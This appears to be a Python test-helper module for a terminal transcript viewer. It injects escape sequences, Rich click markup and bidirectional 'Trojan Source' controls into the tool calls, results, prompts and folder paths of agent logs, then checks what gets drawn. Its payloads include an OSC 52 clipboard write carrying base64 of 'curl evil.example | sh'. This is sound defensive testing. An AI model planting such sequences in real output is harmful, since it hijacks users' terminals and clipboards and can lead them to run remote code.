"""Crafted hostile copies of the real samples: escape sequences and markup in tool names, Edit
arguments, `apply_patch` input, tool results, prompts and folders, as an attacker would write
them; and checks of what reaches the screen."""

from __future__ import annotations

import json
import re
from collections.abc import Iterable
from pathlib import Path
from typing import Any

from rich.segment import Segment

PAYLOAD = "Y3VybCBldmlsLmV4YW1wbGUgfCBzaA=="
"""base64 of `curl evil.example | sh`: what the OSC 52 sequence would put on the clipboard."""
OSC52 = f"\x1b]52;c;{PAYLOAD}\x07"
CLICK = "[@click=app.quit]"
HOSTILE_NAME = f"Edit\x1b[2J\x1b]0;pwned\x07{CLICK}"
SHOWN_NAME = f"Edit{CLICK}"
"""The tool name as it must be drawn: sequences gone, the brackets plain text."""
EDIT_ARGS = {
    "file_path": f"/w/a{CLICK}\x1b]52;c;{PAYLOAD}\x1b\\.py",
    "old_string": "x = 1\n",
    "new_string": f"x = 2{OSC52}\n\x9b2Jy = 3\x1bP+q\x1b\\\n",
}
PATCH = f"*** Begin Patch\n*** Update File: a.py\n@@\n-x = 1\n+x = 2{OSC52}\n*** End Patch"
BIDI = "if (admin\u202e) {\u2066 // only\u2069 \u202c}"
"""Bidirectional controls (a "Trojan Source" line): drawn raw they reorder what is shown."""
RESULT = (
    "line one \x1b[31mred\x1b[0m\n"
    f"{CLICK}click me[/]\n"
    "\x07bell \x9d0;title\x9c tail\n"
    f"clip {OSC52} end\n"
    f"{BIDI}\n"
)
PROMPT = f"fix it {CLICK}\x1b]0;title\x07 now {BIDI}"
CWD = f"/w/proj\x1b]0;t\x07{CLICK}"
UNSAFE = re.compile(r"[\x00-\x1f\x7f-\x9f\u202a-\u202e\u2066-\u2069\u200e\u200f\u061c]")
"""What must never be drawn: C0 controls (a row holds no tab or newline), DEL, C1 and the
bidirectional controls."""


def _claude(record: dict[str, Any], state: dict[str, Any]) -> None:
    result = state["result"]
    if "cwd" in record:
        record["cwd"] = CWD
    message = record.get("message")
    if not isinstance(message, dict):
        return
    if message.get("role") == "user" and isinstance(message.get("content"), str):
        if not state["prompt"]:
            message["content"] = PROMPT
            state["prompt"] = True
        return
    for block in message.get("content") if isinstance(message.get("content"), list) else ():
        if not isinstance(block, dict):
            continue
        if block.get("type") == "tool_use" and state["call"] is None:
            state["call"] = block.get("id")
            block["name"] = HOSTILE_NAME
            block["input"] = EDIT_ARGS
        elif block.get("type") == "tool_result" and block.get("tool_use_id") == state["call"]:
            block["content"] = result


def _codex(record: dict[str, Any], state: dict[str, Any]) -> None:
    payload = record.get("payload")
    if not isinstance(payload, dict):
        return
    if payload.get("type") == "function_call" and state["call"] is None:
        state["call"] = payload.get("call_id")
        payload["name"] = HOSTILE_NAME
        payload["arguments"] = json.dumps(EDIT_ARGS)
    elif payload.get("type") == "function_call_output" and payload.get("call_id") == state["call"]:
        payload["output"] = state["result"]
    elif payload.get("type") == "custom_tool_call":
        payload["input"] = PATCH


def _pi(record: dict[str, Any], state: dict[str, Any]) -> None:
    message = record.get("message")
    if not isinstance(message, dict):
        return
    content = message.get("content")
    if message.get("role") == "toolResult" and message.get("toolCallId") == state["call"]:
        message["content"] = [{"type": "text", "text": state["result"]}]
        return
    for block in content if isinstance(content, list) else ():
        if isinstance(block, dict) and block.get("type") == "toolCall" and state["call"] is None:
            state["call"] = block.get("id")
            block["name"] = HOSTILE_NAME
            block["arguments"] = EDIT_ARGS


def _dsh(record: dict[str, Any], state: dict[str, Any]) -> None:
    data = record.get("data")
    if not isinstance(data, dict):
        return
    if record.get("type") == "tool/call" and state["call"] is None:
        state["call"] = data.get("callId")
        data["name"] = HOSTILE_NAME
        data["arguments"] = json.dumps(EDIT_ARGS)
    elif record.get("type") == "tool/result":
        for block in (data.get("message") or {}).get("content") or []:
            if isinstance(block, dict) and block.get("toolCallId") == state["call"]:
                block["content"] = [{"type": "text", "text": state["result"]}]


MUTATORS = {"claude-code": _claude, "codex": _codex, "pi": _pi, "dsh": _dsh}


def hostile_copy(sample: Path, target: Path, result: str = RESULT) -> Path:
    """`sample` with its first tool call (and its result) made hostile, written to `target`."""
    mutate = MUTATORS[sample.parent.name]
    state: dict[str, Any] = {"call": None, "prompt": False, "result": result}
    lines = []
    for raw in sample.read_text(encoding="utf-8").splitlines():
        try:
            record = json.loads(raw)
        except ValueError:
            lines.append(raw)
            continue
        if isinstance(record, dict):
            mutate(record, state)
        lines.append(json.dumps(record, ensure_ascii=False))
    assert state["call"] is not None, f"{sample.name}: no tool call to make hostile"
    target.write_text("\n".join(lines) + "\n", encoding="utf-8")
    return target


def unsafe_segments(segments: Iterable[Segment]) -> list[str]:
    """Segments that would act on the terminal or on a click: control characters in their
    text, or a click action in their style."""
    found = []
    for segment in segments:
        if segment.control or UNSAFE.search(segment.text):
            found.append(repr(segment.text))
        style = segment.style
        meta = style.meta if style is not None else {}
        if "@click" in meta:
            found.append(f"action {meta} on {segment.text!r}")
    return found
